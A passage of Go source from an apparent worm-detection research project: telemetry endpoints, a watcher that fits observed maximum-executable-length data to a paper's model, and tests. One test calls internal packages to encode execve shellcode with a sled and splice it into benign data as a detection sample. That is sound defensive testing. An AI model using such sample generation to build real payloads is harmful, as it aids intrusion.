	"net/http/pprof"
)

// Handler serves the registry in text exposition format — the
// /metrics endpoint body.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WriteText(w)
	})
}

// VarsHandler serves the registry snapshot as indented JSON — the
// /debug/vars endpoint body, the machine-readable twin of /metrics.
func (r *Registry) VarsHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(r.Snapshot())
	})
}

// MuxOption customizes DebugMux.
type MuxOption func(*muxConfig)

type muxConfig struct {
	prelude  func()
	handlers map[string]http.Handler
}

// WithPrelude runs fn before every /metrics and /debug/vars render —
// the hook for lazily-computed gauges (modelwatch scoring) that should
// be fresh at scrape time but not recomputed per observation.
func WithPrelude(fn func()) MuxOption {
	return func(c *muxConfig) { c.prelude = fn }
}

// WithHandler mounts an extra handler on the debug mux (flight
// recorder pages, modelwatch state).
func WithHandler(path string, h http.Handler) MuxOption {
	return func(c *muxConfig) {
		if c.handlers == nil {
			c.handlers = make(map[string]http.Handler)
		}
		c.handlers[path] = h
	}
}

// DebugMux returns an HTTP mux exposing the registry at /metrics (text
// exposition) and /debug/vars (JSON snapshot), plus the runtime
// profiler under /debug/pprof/ — the daemon's observability surface.
// The pprof handlers are mounted explicitly so the daemon never
// depends on http.DefaultServeMux. Options add a scrape prelude and
// extra endpoints.
func DebugMux(r *Registry, opts ...MuxOption) *http.ServeMux {
	var cfg muxConfig
	for _, o := range opts {
		o(&cfg)
	}
	withPrelude := func(h http.Handler) http.Handler {
		if cfg.prelude == nil {
			return h
		}
		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
			cfg.prelude()
			h.ServeHTTP(w, req)
		})
	}
	mux := http.NewServeMux()
	mux.Handle("/metrics", withPrelude(r.Handler()))
	mux.Handle("/debug/vars", withPrelude(r.VarsHandler()))
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	for path, h := range cfg.handlers {
		mux.Handle(path, h)
	}
	return mux
}

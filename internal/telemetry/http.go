package telemetry

import (
	"net/http"
	"net/http/pprof"
)

// Handler serves the registry in text exposition format — the
// /metrics endpoint body.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WriteText(w)
	})
}

// DebugMux returns an HTTP mux exposing the registry at /metrics and
// the runtime profiler under /debug/pprof/ — the daemon's
// observability surface. The pprof handlers are mounted explicitly so
// the daemon never depends on http.DefaultServeMux.
func DebugMux(r *Registry) *http.ServeMux {
	mux := http.NewServeMux()
	mux.Handle("/metrics", r.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

package telemetry

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// Regression for the overflow-boundary clamp: with mass split between
// finite buckets and the +Inf bucket, quantiles whose rank stays in
// finite territory interpolate, and the first rank that crosses into
// the overflow bucket saturates at the largest finite bound instead of
// inventing a value (or sliding past the boundary uninterpolated).
func TestQuantileOverflowBoundaryRegression(t *testing.T) {
	h := NewHistogram([]float64{1, 2})
	// 8 observations inside (1,2], 2 in the overflow bucket: the 80th
	// percentile is the exact boundary.
	for i := 0; i < 8; i++ {
		h.Observe(1.5)
	}
	h.Observe(10)
	h.Observe(20)
	s := h.Snapshot()

	// Rank 8 of 10 lands exactly on the last finite bucket's cumulative
	// edge: interpolation must return its upper bound, not overshoot.
	if got := s.Quantile(0.8); got != 2 {
		t.Fatalf("q80 = %v, want 2 (edge of last finite bucket)", got)
	}
	// Ranks inside the overflow bucket clamp to the largest finite bound.
	for _, q := range []float64{0.81, 0.9, 0.99, 1} {
		if got := s.Quantile(q); got != 2 {
			t.Fatalf("q%v = %v, want clamp to 2", q, got)
		}
	}
	// Finite ranks still interpolate strictly inside their bucket.
	if got := s.Quantile(0.4); got <= 1 || got >= 2 {
		t.Fatalf("q40 = %v, want interpolated inside (1,2)", got)
	}
	// A histogram with no finite bounds at all cannot clamp: it reports 0.
	empty := HistSnapshot{Counts: []uint64{3}, Count: 3}
	if got := empty.Quantile(0.5); got != 0 {
		t.Fatalf("boundless q50 = %v, want 0", got)
	}
}

func TestFloatGaugeAndGaugeFunc(t *testing.T) {
	r := NewRegistry()
	fg := r.FloatGauge("fit_stat", "model fit")
	fg.Set(2.75)
	if v, ok := r.Value("fit_stat"); !ok || v != 2.75 {
		t.Fatalf("Value(fit_stat) = %v,%v", v, ok)
	}
	if fg2 := r.FloatGauge("fit_stat", ""); fg2 != fg {
		t.Fatal("same name should return the same FloatGauge")
	}

	calls := 0
	r.GaugeFunc("uptime", "seconds", func() float64 {
		calls++
		return 42.5
	})
	if v, ok := r.Value("uptime"); !ok || v != 42.5 {
		t.Fatalf("Value(uptime) = %v,%v", v, ok)
	}
	snaps := r.Snapshot()
	var found bool
	for _, s := range snaps {
		if s.Name == "uptime" {
			found = true
			if s.Value != 42.5 {
				t.Fatalf("snapshot uptime = %v", s.Value)
			}
		}
	}
	if !found || calls < 2 {
		t.Fatalf("gauge func not evaluated (found=%v calls=%d)", found, calls)
	}

	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	body := sb.String()
	for _, want := range []string{
		"# TYPE fit_stat gauge",
		"fit_stat 2.75",
		"# TYPE uptime gauge",
		"uptime 42.5",
	} {
		if !strings.Contains(body, want) {
			t.Fatalf("exposition missing %q:\n%s", want, body)
		}
	}
}

func TestInfoMetric(t *testing.T) {
	r := NewRegistry()
	r.Info("build_info", "build metadata", map[string]string{
		"goversion": "go1.x",
		"module":    "repro",
	})
	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	want := `build_info{goversion="go1.x",module="repro"} 1`
	if !strings.Contains(sb.String(), want) {
		t.Fatalf("exposition missing %q:\n%s", want, sb.String())
	}
	snaps := r.Snapshot()
	if len(snaps) != 1 || snaps[0].Labels["module"] != "repro" || snaps[0].Value != 1 {
		t.Fatalf("info snapshot = %+v", snaps)
	}
}

func TestHistogramExemplars(t *testing.T) {
	h := NewHistogram([]float64{1, 2})
	h.ObserveExemplar(0.5, "aaaa")
	h.ObserveExemplar(0.7, "bbbb") // replaces aaaa in the first bucket
	h.ObserveExemplar(9.0, "cccc") // overflow bucket
	h.Observe(1.5)                 // untraced: no exemplar
	s := h.Snapshot()
	if s.Count != 4 {
		t.Fatalf("count = %d, want 4", s.Count)
	}
	if len(s.Exemplars) != 2 {
		t.Fatalf("exemplars = %+v, want 2 buckets", s.Exemplars)
	}
	if s.Exemplars[0].LE != "1" || s.Exemplars[0].TraceID != "bbbb" || s.Exemplars[0].Value != 0.7 {
		t.Fatalf("first exemplar = %+v", s.Exemplars[0])
	}
	if s.Exemplars[1].LE != "+Inf" || s.Exemplars[1].TraceID != "cccc" {
		t.Fatalf("overflow exemplar = %+v", s.Exemplars[1])
	}
	// Exemplars ride the JSON snapshot but stay out of the text format.
	r := NewRegistry()
	rh := r.Histogram("lat", "", []float64{1, 2})
	rh.ObserveExemplar(0.5, "dddd")
	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(sb.String(), "dddd") {
		t.Fatal("exemplar leaked into text exposition")
	}
}

func TestRegisterProcessMetrics(t *testing.T) {
	r := NewRegistry()
	RegisterProcessMetrics(r)
	start, ok := r.Value("process_start_time_seconds")
	if !ok || start <= 0 {
		t.Fatalf("process_start_time_seconds = %v,%v", start, ok)
	}
	up, ok := r.Value("process_uptime_seconds")
	if !ok || up < 0 || up > 3600 {
		t.Fatalf("process_uptime_seconds = %v,%v", up, ok)
	}
	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(sb.String(), "build_info{") {
		t.Fatalf("exposition missing build_info:\n%s", sb.String())
	}
	// Idempotent re-registration must not panic or duplicate.
	RegisterProcessMetrics(r)
	if n := len(r.Snapshot()); n != 3 {
		t.Fatalf("snapshot has %d entries after re-register, want 3", n)
	}
}

func TestDebugVarsAndMuxOptions(t *testing.T) {
	r := NewRegistry()
	r.Counter("scans_total", "scans").Add(2)
	preludes := 0
	custom := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusTeapot)
	})
	srv := httptest.NewServer(DebugMux(r,
		WithPrelude(func() { preludes++ }),
		WithHandler("/debug/custom", custom),
	))
	defer srv.Close()

	resp, err := srv.Client().Get(srv.URL + "/debug/vars")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("vars Content-Type = %q", ct)
	}
	var snaps []MetricSnapshot
	if err := json.NewDecoder(resp.Body).Decode(&snaps); err != nil {
		t.Fatalf("vars not valid JSON: %v", err)
	}
	if len(snaps) != 1 || snaps[0].Name != "scans_total" || snaps[0].Value != 2 {
		t.Fatalf("vars snapshot = %+v", snaps)
	}

	if mresp, err := srv.Client().Get(srv.URL + "/metrics"); err != nil {
		t.Fatal(err)
	} else {
		mresp.Body.Close()
	}
	if preludes != 2 {
		t.Fatalf("prelude ran %d times, want 2 (vars + metrics)", preludes)
	}

	cresp, err := srv.Client().Get(srv.URL + "/debug/custom")
	if err != nil {
		t.Fatal(err)
	}
	cresp.Body.Close()
	if cresp.StatusCode != http.StatusTeapot {
		t.Fatalf("custom handler status = %d", cresp.StatusCode)
	}
}

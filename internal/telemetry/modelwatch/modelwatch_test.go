package modelwatch

import (
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"repro/internal/melmodel"
	"repro/internal/stats"
	"repro/internal/telemetry"
)

// sampleMEL draws one Xmax from the paper's distribution by inverse-CDF
// sampling: the smallest x with CDF(x) >= u.
func sampleMEL(t *testing.T, rng *stats.RNG, n int, p float64) int {
	t.Helper()
	u := rng.Float64()
	for x := 0; x <= n; x++ {
		c, err := melmodel.CDF(x, n, p)
		if err != nil {
			t.Fatal(err)
		}
		if c >= u {
			return x
		}
	}
	return n
}

// TestModelConsistentTrafficFitsWell: MELs drawn from the model itself
// score a reduced chi-square near 1 and a p-hat near the true p.
func TestModelConsistentTrafficFitsWell(t *testing.T) {
	const n, p = 4096, 0.08
	w := New(nil, Config{})
	rng := stats.NewRNG(42)
	for i := 0; i < 4000; i++ {
		w.Observe(sampleMEL(t, rng, n, p), n, p)
	}
	rep := w.Score()
	if len(rep.Cells) != 1 || !rep.Cells[0].Scored {
		t.Fatalf("expected one scored cell, got %+v", rep.Cells)
	}
	if rep.FitStat <= 0 || rep.FitStat > 3 {
		t.Fatalf("model-consistent fit stat = %v, want ~1", rep.FitStat)
	}
	if rep.Cells[0].PValue < 1e-4 {
		t.Fatalf("model-consistent traffic rejected: p-value %v", rep.Cells[0].PValue)
	}
	if d := rep.PDrift; d < -0.03 || d > 0.03 {
		t.Fatalf("p drift = %v on model-consistent traffic (p-hat %v, p %v)", d, rep.PHat, p)
	}
}

// TestWormShiftMovesFitStat: mixing in worm-like MELs (>= 120, the
// paper's decoder floor) blows up the fit statistic and drags p-hat
// below the calibrated p — the drift alarm the watcher exists for.
func TestWormShiftMovesFitStat(t *testing.T) {
	const n, p = 4096, 0.08
	benign := New(nil, Config{})
	mixed := New(nil, Config{})
	rng := stats.NewRNG(7)
	for i := 0; i < 3000; i++ {
		mel := sampleMEL(t, rng, n, p)
		benign.Observe(mel, n, p)
		// Every fourth scan in the mixed stream carries a worm-length
		// executable run.
		if i%4 == 0 {
			mel = 120 + rng.Intn(60)
		}
		mixed.Observe(mel, n, p)
	}
	b, m := benign.Score(), mixed.Score()
	if !m.Cells[0].Scored {
		t.Fatal("mixed cell not scored")
	}
	if m.FitStat < 10*b.FitStat {
		t.Fatalf("worm mix fit stat %v vs benign %v — drift not detected", m.FitStat, b.FitStat)
	}
	if m.Cells[0].PValue > 1e-6 {
		t.Fatalf("worm mix not rejected: p-value %v", m.Cells[0].PValue)
	}
	if m.PDrift >= b.PDrift {
		t.Fatalf("worm mix p drift %v not below benign drift %v", m.PDrift, b.PDrift)
	}
}

// TestCellCapAndInvalidObservations: the cell table is bounded, drops
// are counted, and unscoreable calibrations are ignored.
func TestCellCapAndInvalidObservations(t *testing.T) {
	w := New(nil, Config{MaxCells: 2, MinObservations: 1})
	w.Observe(10, 1000, 0.1)
	w.Observe(10, 2000, 0.1)
	w.Observe(10, 3000, 0.1) // third cell: dropped
	w.Observe(5, 0, 0.1)     // invalid n
	w.Observe(5, 100, 0)     // invalid p
	w.Observe(5, 100, 1.5)   // invalid p
	w.Observe(-1, 100, 0.1)  // invalid mel
	rep := w.Score()
	if len(rep.Cells) != 2 {
		t.Fatalf("cells = %d, want 2", len(rep.Cells))
	}
	if rep.Dropped != 1 {
		t.Fatalf("dropped = %d, want 1", rep.Dropped)
	}
	if rep.Observations != 2 {
		t.Fatalf("observations = %d, want 2", rep.Observations)
	}
}

// TestOverflowBucket: MELs past MaxMEL accumulate in the overflow
// bucket and still count against the fit.
func TestOverflowBucket(t *testing.T) {
	w := New(nil, Config{MaxMEL: 64, MinObservations: 10})
	const n, p = 1024, 0.1
	for i := 0; i < 200; i++ {
		w.Observe(1000, n, p) // far past MaxMEL
	}
	rep := w.Score()
	if rep.Observations != 200 {
		t.Fatalf("observations = %d", rep.Observations)
	}
	c := rep.Cells[0]
	if !c.Scored {
		t.Fatal("overflow-heavy cell not scored")
	}
	if c.FitStat < 20 {
		t.Fatalf("all-overflow traffic fit stat = %v, want a decisive rejection", c.FitStat)
	}
	if c.MedianMEL != 65 {
		t.Fatalf("median bucket = %d, want overflow index 65", c.MedianMEL)
	}
}

// TestGaugesRefreshOnScore: a registry-backed watcher exposes its
// signals on the text exposition after Score.
func TestGaugesRefreshOnScore(t *testing.T) {
	reg := telemetry.NewRegistry()
	w := New(reg, Config{MinObservations: 16})
	rng := stats.NewRNG(3)
	const n, p = 2048, 0.09
	for i := 0; i < 500; i++ {
		w.Observe(sampleMEL(t, rng, n, p), n, p)
	}
	w.Score()
	var sb strings.Builder
	reg.WriteText(&sb)
	text := sb.String()
	for _, want := range []string{
		"modelwatch_fit_stat",
		"modelwatch_p_hat",
		"modelwatch_p_drift",
		"modelwatch_observations_total 500",
		"modelwatch_cells 1",
	} {
		if !strings.Contains(text, want) {
			t.Fatalf("exposition missing %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "modelwatch_fit_stat 0\n") {
		t.Fatal("fit stat gauge still zero after Score")
	}
}

// TestHandlerJSON: /debug/modelwatch serves the report as JSON.
func TestHandlerJSON(t *testing.T) {
	w := New(nil, Config{MinObservations: 8})
	rng := stats.NewRNG(5)
	for i := 0; i < 100; i++ {
		w.Observe(sampleMEL(t, rng, 1024, 0.1), 1024, 0.1)
	}
	rw := httptest.NewRecorder()
	w.Handler().ServeHTTP(rw, httptest.NewRequest("GET", "/debug/modelwatch", nil))
	if ct := rw.Header().Get("Content-Type"); ct != "application/json" {
		t.Fatalf("content type %q", ct)
	}
	var rep Report
	if err := json.Unmarshal(rw.Body.Bytes(), &rep); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, rw.Body.String())
	}
	if rep.Observations != 100 || len(rep.Cells) != 1 {
		t.Fatalf("report %+v", rep)
	}
	if !rep.Cells[0].Scored || rep.Cells[0].PHat <= 0 {
		t.Fatalf("cell not scored in JSON: %+v", rep.Cells[0])
	}
}

// TestConcurrentObserveScore: Observe and Score race cleanly.
func TestConcurrentObserveScore(t *testing.T) {
	w := New(nil, Config{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		rng := stats.NewRNG(9)
		for i := 0; i < 2000; i++ {
			w.Observe(20+rng.Intn(30), 1024, 0.1)
		}
	}()
	for i := 0; i < 20; i++ {
		_ = w.Score()
	}
	<-done
	rep := w.Score()
	if rep.Observations != 2000 {
		t.Fatalf("observations = %d, want 2000", rep.Observations)
	}
}

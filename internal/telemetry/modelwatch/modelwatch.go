// Package modelwatch monitors the paper's MEL model against live
// traffic. Every served verdict contributes one observation — the
// measured MEL bucketed per calibration cell (n, p) — and the watcher
// periodically scores the empirical histogram against the closed-form
// distribution Prob[Xmax <= x] = (1-(1-p)^x)(1 - p(1-p)^x)^n from
// Section 3.1. Two signals come out:
//
//   - a reduced chi-square fit statistic (X²/dof over expected-count-
//     grouped MEL buckets): near 1 while traffic matches the calibrated
//     model, climbing when the MEL distribution shifts — e.g. when the
//     benign/worm mix changes or the byte-frequency calibration of p
//     goes stale;
//   - p̂, the invalidity probability that would make the model's median
//     match the observed median, and its drift from the calibrated p.
//
// Both are exported as gauges so a scrape-time prelude can refresh them
// (telemetry.WithPrelude(watcher.Score)), and the full per-cell report
// is served as JSON for /debug/modelwatch.
package modelwatch

import (
	"encoding/json"
	"math"
	"net/http"
	"sort"
	"sync"

	"repro/internal/melmodel"
	"repro/internal/stats"
	"repro/internal/telemetry"
)

// Defaults for Config zero values.
const (
	// DefaultMaxMEL caps the tracked MEL range; larger observations land
	// in a shared overflow bucket. 512 comfortably covers the paper's
	// benign range (MELs of tens) and worm range (>= 120).
	DefaultMaxMEL = 512
	// DefaultMaxCells bounds the number of distinct (n, p) calibration
	// cells; observations for further cells are counted and dropped.
	DefaultMaxCells = 32
	// DefaultMinObservations is the per-cell sample size below which the
	// fit is not scored (the grouped chi-square needs mass to be
	// meaningful).
	DefaultMinObservations = 64
)

// minExpected is the classical minimum expected count per chi-square
// group; adjacent MEL buckets are pooled until each group reaches it.
const minExpected = 5.0

// Config configures a Watcher. Zero values select the defaults above.
type Config struct {
	MaxMEL          int
	MaxCells        int
	MinObservations int
}

// cellKey identifies one calibration cell. p is keyed by its exact bit
// pattern: detector calibrations are discrete (per rule-set and size
// bucket), so equality is the right grouping.
type cellKey struct {
	n     int
	pBits uint64
}

// cell is one (n, p) calibration cell's MEL histogram: counts[x] for
// x in [0, maxMEL], with counts[maxMEL+1] holding the overflow.
type cell struct {
	counts []uint64
	total  uint64
}

// Watcher accumulates MEL observations and scores them against the
// model. All methods are safe for concurrent use; Observe is cheap
// enough for the verdict path (one map probe and one increment under a
// mutex).
type Watcher struct {
	maxMEL  int
	maxCell int
	minObs  int

	mu      sync.Mutex
	cells   map[cellKey]*cell
	dropped uint64

	// Registered instruments; all nil when no registry was given.
	fit    *telemetry.FloatGauge
	pHat   *telemetry.FloatGauge
	pDrift *telemetry.FloatGauge
	obs    *telemetry.Counter
	drops  *telemetry.Counter
	cellsG *telemetry.Gauge
}

// New returns a Watcher. reg may be nil; when set, the watcher
// registers its gauges there (call Score — directly or via a
// telemetry.WithPrelude — to refresh them).
func New(reg *telemetry.Registry, cfg Config) *Watcher {
	if cfg.MaxMEL <= 0 {
		cfg.MaxMEL = DefaultMaxMEL
	}
	if cfg.MaxCells <= 0 {
		cfg.MaxCells = DefaultMaxCells
	}
	if cfg.MinObservations <= 0 {
		cfg.MinObservations = DefaultMinObservations
	}
	w := &Watcher{
		maxMEL:  cfg.MaxMEL,
		maxCell: cfg.MaxCells,
		minObs:  cfg.MinObservations,
		cells:   make(map[cellKey]*cell),
	}
	if reg != nil {
		w.fit = reg.FloatGauge("modelwatch_fit_stat", "reduced chi-square of observed MELs vs the paper's distribution (observation-weighted across calibration cells)")
		w.pHat = reg.FloatGauge("modelwatch_p_hat", "median-matched estimate of the invalidity probability p from observed MELs")
		w.pDrift = reg.FloatGauge("modelwatch_p_drift", "p_hat minus the calibrated p (observation-weighted across cells)")
		w.obs = reg.Counter("modelwatch_observations_total", "MEL observations accumulated by the model watcher")
		w.drops = reg.Counter("modelwatch_dropped_total", "observations dropped because the calibration-cell table was full")
		w.cellsG = reg.Gauge("modelwatch_cells", "distinct (n, p) calibration cells being tracked")
	}
	return w
}

// Observe records one verdict's MEL under its calibration (n, p).
// Invalid calibrations (non-positive n, p outside (0,1)) are ignored —
// they cannot be scored against the model.
func (w *Watcher) Observe(mel, n int, p float64) {
	if n <= 0 || p <= 0 || p >= 1 || mel < 0 {
		return
	}
	idx := mel
	if idx > w.maxMEL {
		idx = w.maxMEL + 1 // overflow bucket
	}
	key := cellKey{n: n, pBits: math.Float64bits(p)}
	w.mu.Lock()
	c := w.cells[key]
	if c == nil {
		if len(w.cells) >= w.maxCell {
			w.dropped++
			w.mu.Unlock()
			if w.drops != nil {
				w.drops.Inc()
			}
			return
		}
		c = &cell{counts: make([]uint64, w.maxMEL+2)}
		w.cells[key] = c
	}
	c.counts[idx]++
	c.total++
	w.mu.Unlock()
	if w.obs != nil {
		w.obs.Inc()
	}
}

// CellReport is the scored state of one calibration cell.
type CellReport struct {
	// N and P are the cell's calibration.
	N int     `json:"n"`
	P float64 `json:"p"`
	// Observations is the number of MELs accumulated.
	Observations uint64 `json:"observations"`
	// Scored reports whether the cell had enough mass for a fit.
	Scored bool `json:"scored"`
	// FitStat is the reduced chi-square X²/dof of the observed MEL
	// histogram against the model PMF; ~1 for model-consistent traffic.
	FitStat float64 `json:"fit_stat"`
	// PValue is the chi-square survival probability: small values
	// reject "observations follow the model".
	PValue float64 `json:"p_value"`
	// MedianMEL is the observed median MEL.
	MedianMEL int `json:"median_mel"`
	// PHat is the invalidity probability whose model median matches the
	// observed median; PDrift is PHat - P.
	PHat   float64 `json:"p_hat"`
	PDrift float64 `json:"p_drift"`
}

// Report is a full scoring pass over every cell.
type Report struct {
	// Observations counts MELs accumulated across all cells; Dropped
	// counts observations rejected by the cell cap.
	Observations uint64 `json:"observations"`
	Dropped      uint64 `json:"dropped"`
	// FitStat, PHat, and PDrift are observation-weighted aggregates over
	// the scored cells (zero when nothing scored yet).
	FitStat float64 `json:"fit_stat"`
	PHat    float64 `json:"p_hat"`
	PDrift  float64 `json:"p_drift"`
	// Cells holds every tracked cell, largest first.
	Cells []CellReport `json:"cells"`
}

// Score runs a scoring pass: every cell's histogram is tested against
// the model, the registered gauges are refreshed, and the full report
// is returned. Cost is proportional to cells × MaxMEL; intended for
// scrape-time use (seconds apart), not the verdict path.
func (w *Watcher) Score() Report {
	// Snapshot under the lock, compute outside it.
	type snap struct {
		key    cellKey
		counts []uint64
		total  uint64
	}
	w.mu.Lock()
	snaps := make([]snap, 0, len(w.cells))
	for k, c := range w.cells {
		snaps = append(snaps, snap{key: k, counts: append([]uint64(nil), c.counts...), total: c.total})
	}
	dropped := w.dropped
	w.mu.Unlock()

	var rep Report
	rep.Dropped = dropped
	var wFit, wHat, wDrift, wN float64
	for _, s := range snaps {
		p := math.Float64frombits(s.key.pBits)
		cr := scoreCell(s.counts, s.total, s.key.n, p, w.maxMEL, w.minObs)
		rep.Observations += s.total
		rep.Cells = append(rep.Cells, cr)
		if cr.Scored {
			fw := float64(s.total)
			wFit += fw * cr.FitStat
			wHat += fw * cr.PHat
			wDrift += fw * cr.PDrift
			wN += fw
		}
	}
	if wN > 0 {
		rep.FitStat = wFit / wN
		rep.PHat = wHat / wN
		rep.PDrift = wDrift / wN
	}
	sort.Slice(rep.Cells, func(i, j int) bool {
		if rep.Cells[i].Observations != rep.Cells[j].Observations {
			return rep.Cells[i].Observations > rep.Cells[j].Observations
		}
		if rep.Cells[i].N != rep.Cells[j].N {
			return rep.Cells[i].N < rep.Cells[j].N
		}
		return rep.Cells[i].P < rep.Cells[j].P
	})

	if w.fit != nil {
		w.fit.Set(rep.FitStat)
		w.pHat.Set(rep.PHat)
		w.pDrift.Set(rep.PDrift)
		w.cellsG.Set(int64(len(rep.Cells)))
	}
	return rep
}

// scoreCell tests one cell's histogram against the model.
func scoreCell(counts []uint64, total uint64, n int, p float64, maxMEL, minObs int) CellReport {
	cr := CellReport{N: n, P: p, Observations: total}
	if total == 0 {
		return cr
	}
	cr.MedianMEL = medianOf(counts, total)
	if int(total) < minObs {
		return cr
	}

	// Expected counts from the model PMF, overflow as the tail mass.
	pmf, err := melmodel.PMFSeries(maxMEL, n, p)
	if err != nil {
		return cr
	}
	cdfMax, err := melmodel.CDF(maxMEL, n, p)
	if err != nil {
		return cr
	}
	expected := make([]float64, maxMEL+2)
	for x, v := range pmf {
		expected[x] = v * float64(total)
	}
	expected[maxMEL+1] = (1 - cdfMax) * float64(total)

	// Pool adjacent buckets until every group's expected count reaches
	// the classical minimum; a trailing light group merges backwards.
	var obsG, expG []float64
	var co, ce float64
	for i := range expected {
		co += float64(counts[i])
		ce += expected[i]
		if ce >= minExpected {
			obsG = append(obsG, co)
			expG = append(expG, ce)
			co, ce = 0, 0
		}
	}
	if ce > 0 || co > 0 {
		if len(expG) > 0 {
			obsG[len(obsG)-1] += co
			expG[len(expG)-1] += ce
		} else {
			obsG = append(obsG, co)
			expG = append(expG, ce)
		}
	}
	if len(expG) >= 2 {
		if res, err := stats.ChiSquareGoodnessOfFit(obsG, expG, 0); err == nil {
			cr.Scored = true
			cr.FitStat = res.Statistic / float64(res.DF)
			cr.PValue = res.PValue
		}
	}

	cr.PHat = estimateP(cr.MedianMEL, n)
	cr.PDrift = cr.PHat - p
	if !cr.Scored {
		cr.PHat, cr.PDrift = 0, 0
	}
	return cr
}

// medianOf returns the smallest x whose cumulative count reaches half
// the total.
func medianOf(counts []uint64, total uint64) int {
	half := (total + 1) / 2
	var cum uint64
	for x, c := range counts {
		cum += c
		if cum >= half {
			return x
		}
	}
	return len(counts) - 1
}

// estimateP finds the invalidity probability whose model puts its
// median at the observed median: the p with CDF(median, n, p) = 0.5,
// by bisection (the CDF is increasing in p for fixed x — larger
// invalidity probability shortens executable runs). The observed
// median is clamped to >= 1 because CDF(0) is identically zero.
func estimateP(median, n int) float64 {
	if median < 1 {
		median = 1
	}
	lo, hi := 1e-6, 1-1e-6
	for i := 0; i < 100; i++ {
		mid := (lo + hi) / 2
		c, err := melmodel.CDF(median, n, mid)
		if err != nil {
			return 0
		}
		if c < 0.5 {
			lo = mid
		} else {
			hi = mid
		}
	}
	return (lo + hi) / 2
}

// Handler serves the full report as indented JSON — mount it at
// /debug/modelwatch.
func (w *Watcher) Handler() http.Handler {
	return http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rep := w.Score()
		rw.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(rw)
		enc.SetIndent("", "  ")
		_ = enc.Encode(rep)
	})
}

package modelwatch

import (
	"testing"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

// wormWindowBytes returns a scan window with a spliced worm that a raw
// scan flags.
func wormWindowBytes(t *testing.T) []byte {
	t.Helper()
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 31, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	cases, err := corpus.Dataset(31, 2, 1400)
	if err != nil {
		t.Fatal(err)
	}
	var window []byte
	window = append(window, cases[0].Data...)
	window = append(window, w.Bytes...)
	window = append(window, cases[1].Data...)
	return window
}

// benignTextBytes returns one benign corpus case.
func benignTextBytes(t *testing.T) []byte {
	t.Helper()
	cases, err := corpus.Dataset(7, 1, 4096)
	if err != nil {
		t.Fatal(err)
	}
	return cases[0].Data
}

// TestObserveKeysOnViewLength pins the content-pipeline contract: a
// verdict found in a decoded view carries that view's calibration, so
// the watcher's histogram cell is keyed on the post-decode length —
// the bytes the model actually scored — not on the wrapped wire
// length. A triage-cleared verdict (no MEL pass, zero Params) must be
// ignored rather than polluting a cell at n=0.
func TestObserveKeysOnViewLength(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pipe, err := content.NewPipeline(det.ScanTraced, content.PipelineConfig{})
	if err != nil {
		t.Fatal(err)
	}
	w := New(nil, Config{})
	observe := func(v core.Verdict) { w.Observe(v.MEL, v.Params.N, v.Params.P) }

	// A gzip-wrapped worm window: the verdict comes from the decoded
	// view, so its calibration must match a direct scan of the view
	// bytes, not of the (shorter) wrapped wire bytes.
	window := wormWindowBytes(t)
	wrapped := content.EncodeGzip(window)
	viewScan, err := det.Scan(window)
	if err != nil {
		t.Fatal(err)
	}
	wireScan, err := det.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if viewScan.Params.N == wireScan.Params.N {
		t.Fatal("premise: wrapper did not change the calibration cell")
	}
	v, err := pipe.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious || v.DecodeChain != "gzip" {
		t.Fatalf("verdict = %+v, want malicious via gzip", v)
	}
	observe(v)

	// A triage-cleared benign payload carries no calibration and must
	// not create a cell.
	cleared, err := pipe.Scan(benignTextBytes(t))
	if err != nil {
		t.Fatal(err)
	}
	if !cleared.TriageCleared {
		t.Fatalf("benign payload not cleared: %+v", cleared)
	}
	observe(cleared)

	rep := w.Score()
	if len(rep.Cells) != 1 {
		t.Fatalf("watcher tracks %d cells, want exactly 1", len(rep.Cells))
	}
	if got := rep.Cells[0].N; got != viewScan.Params.N {
		t.Fatalf("cell keyed on n=%d, want the view's calibration %d (wire bytes would give %d)",
			got, viewScan.Params.N, wireScan.Params.N)
	}
